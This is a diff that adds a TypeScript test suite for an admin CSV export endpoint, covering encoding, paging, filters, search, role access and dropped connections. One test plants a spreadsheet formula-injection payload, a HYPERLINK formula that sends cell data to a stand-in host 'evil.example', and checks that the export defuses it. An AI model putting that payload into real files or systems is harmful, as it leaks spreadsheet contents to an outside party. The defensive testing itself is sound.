@@ -1,0 +1,157 @@
+import { request } from 'node:http'
+import { afterAll, beforeAll, describe, expect, test } from 'vitest'
+import { exportFields } from '#contract/export.ts'
+import { assignOrders, listOrders, searchOrders, type OrderRow } from '#contract/orders.ts'
+import { queueNames, type QueueName } from '#contract/rules/queues.ts'
+import { roles } from '#contract/rules/roles.ts'
+import { fetchCsv } from '../support/csv.ts'
+import { fillManyOrders } from '../support/many-orders.ts'
+import { takeIn } from '../support/orders.ts'
+import { startTestApp, type TestApp } from '../support/test-app.ts'
+
+let app: TestApp
+let token: string
+let now = Date.parse('2026-11-21T03:00:00Z')
+
+beforeAll(async () => {
+  app = await startTestApp({ clock: () => new Date((now += 1000)) })
+  token = await app.signInAs('Admin')
+  await fillManyOrders(app.platform.db, 3000, 5_000_000)
+})
+afterAll(() => app.stop())
+
+const csv = (orderName: QueueName, query: Record<string, string> = {}, as = token) =>
+  fetchCsv(app.url, `/admin/export/${orderName}`, query, as)
+const ids = (rows: Record<string, string>[]) => rows.map((row) => Number(row['order_id']))
+const list = async (orderName: QueueName, query: Record<string, unknown> = {}) =>
+  (await app.call(listOrders, { params: { orderName }, query: { limit: 10_000, ...query } }, { token })).body
+    .data
+
+/** A list's row as the file has it. */
+const asText = (row: OrderRow) =>
+  Object.fromEntries(exportFields.map((field) => [field, row[field] === null ? '' : String(row[field])]))
+
+test('is a UTF-8 attachment with the fields of a list row', async () => {
+  const orderId = await takeIn(app, { arrival_full_name: 'Nguyễn Thị Ánh Tuyết 王' })
+  const { http, headers, bytes, rows } = await csv('newOrder', { limit: '1' })
+  expect(http).toBe(200)
+  expect(headers.get('content-type')).toBe('text/csv; charset=utf-8')
+  expect(headers.get('content-disposition')).toBe('attachment; filename="newOrder-2026-11-21.csv"')
+  expect(bytes.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]))
+  expect(bytes.toString().slice(1).split('\r\n')[0]).toBe(exportFields.join(','))
+  expect(rows).toMatchObject([
+    { order_id: String(orderId), arrival_full_name: 'Nguyễn Thị Ánh Tuyết 王', departure_full_name: '' },
+  ])
+})
+
+test.each(queueNames)('%s: exports every row of the list in its order', async (queue) => {
+  const rows = await list(queue)
+  expect((await csv(queue)).rows).toEqual(rows.map(asText))
+})
+
+describe('parameters', () => {
+  test('page, limit and its alias give that page', async () => {
+    const page = (await list('completedOrder', { page: 3, limit: 20 })).map((row) => row.order_id)
+    expect(ids((await csv('completedOrder', { page: '3', limit: '20', delay: '1' })).rows)).toEqual(page)
+    expect(ids((await csv('completedOrder', { page: '3', perPage: '20' })).rows)).toEqual(page)
+  })
+
+  test('sort, order and filter are the list’s', async () => {
+    const query = { sort: 'travel_date', order: 'asc', 'filter[process_month]': '2026-12' }
+    const rows = await list('completedOrder', query)
+    expect(rows.length).toBeGreaterThan(10)
+    expect(ids((await csv('completedOrder', query)).rows)).toEqual(rows.map((row) => row.order_id))
+  })
+
+  test('month gives one month of future orders', async () => {
+    const orderId = await takeIn(app, { arrival_doa: '2027-03-20' })
+    await takeIn(app, { arrival_doa: '2027-04-20' })
+    expect(ids((await csv('futureOrder', { month: '3' })).rows)).toEqual([orderId])
+  })
+
+  test('searchVal gives what the search finds; start and end its rows', async () => {
+    const searchVal = 't12'
+    const found = async (start: number, end: number) => {
+      const body = { searchVal, folderName: 'completedOrder' as const, start, end }
+      return (await app.call(searchOrders, { body }, { token })).body.data.map((row) => row.order_id)
+    }
+    const all = await found(0, 5000)
+    expect(all.length).toBeGreaterThan(20)
+    expect(ids((await csv('completedOrder', { searchVal })).rows)).toEqual(all)
+    expect(ids((await csv('completedOrder', { searchVal, start: '5', end: '9' })).rows)).toEqual(
+      await found(5, 9),
+    )
+    expect(ids((await csv('completedOrder', { searchVal: ' ', limit: '2' })).rows)).toHaveLength(2)
+  })
+
+  test.each([
+    ['allOrder', 'searchVal=ab', 'Please enter at least 3 characters.'],
+    ['allOrder', 'limit=x', 'Limit is not valid.'],
+    ['allOrder', 'start=-1', 'start is not valid.'],
+    ['allOrder', 'month=3', 'Only future orders are listed by month.'],
+    ['allOrder', 'filter[password]=x', 'Orders cannot be filtered by password.'],
+    ['secretOrder', '', 'Unknown order list.'],
+  ])('%s?%s: 400 %s', async (queue, query, message) => {
+    const response = await fetch(`${app.url}/api/admin/export/${queue}?${query}`, {
+      headers: { authorization: token },
+    })
+    expect(response.status).toBe(400)
+    expect(await response.json()).toMatchObject({ status: 0, message })
+  })
+})
+
+test('cells that a spreadsheet would work out are made harmless', async () => {
+  const attack = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+  await takeIn(app, {
+    arrival_full_name: attack,
+    arrival_phone_code: '+62',
+    arrival_phone_number: '@812',
+    arrival_email: '-x@example.com',
+  })
+  const [row] = (await csv('newOrder', { limit: '1' })).rows
+  expect(row).toMatchObject({
+    arrival_full_name: `'${attack}`,
+    arrival_phone_code: "'+62",
+    arrival_phone_number: "'@812",
+    arrival_email: "'-x@example.com",
+  })
+})
+
+test('My Orders exports the caller’s own', async () => {
+  const { name, email } = await app.addMember('Sri Single', 'Night Staff')
+  const own = await app.signInWith(email)
+  const orderId = await takeIn(app)
+  await app.call(assignOrders, { body: { orderId, assignto: name } }, { token: own })
+  const { rows } = await csv('myOrder', {}, own)
+  expect(ids(rows)).toEqual([orderId])
+  expect(rows[0]).toMatchObject({ assign_to: name })
+})
+
+test('every role exports queues, Order History all but Telecaller; nobody without a session', async () => {
+  for (const role of roles) {
+    const as = await app.signInAs(role)
+    expect((await csv('priorityOrder', { limit: '1' }, as)).http, role).toBe(200)
+    expect((await csv('allOrder', { limit: '1' }, as)).http, role).toBe(role === 'Telecaller' ? 403 : 200)
+  }
+  expect((await csv('newOrder', {}, '')).http).toBe(401)
+})
+
+/** Begins to read an export and leaves. */
+const readAndLeave = (orderName: QueueName) =>
+  new Promise<void>((resolve, reject) => {
+    const asked = request(`${app.url}/api/admin/export/${orderName}`, { headers: { authorization: token } })
+    asked.on('response', (answer) =>
+      answer.once('data', () => {
+        answer.on('error', () => resolve())
+        asked.destroy()
+      }),
+    )
+    asked.on('error', reject).end()
+  })
+
+test('readers who leave in the middle give their connections back', async () => {
+  await fillManyOrders(app.platform.db, 5000, 6_000_000)
+  // More than there are connections.
+  for (let reader = 0; reader < 20; reader++) await readAndLeave('allOrder')
+  expect((await csv('allOrder')).rows.length).toBeGreaterThan(8000)
+})
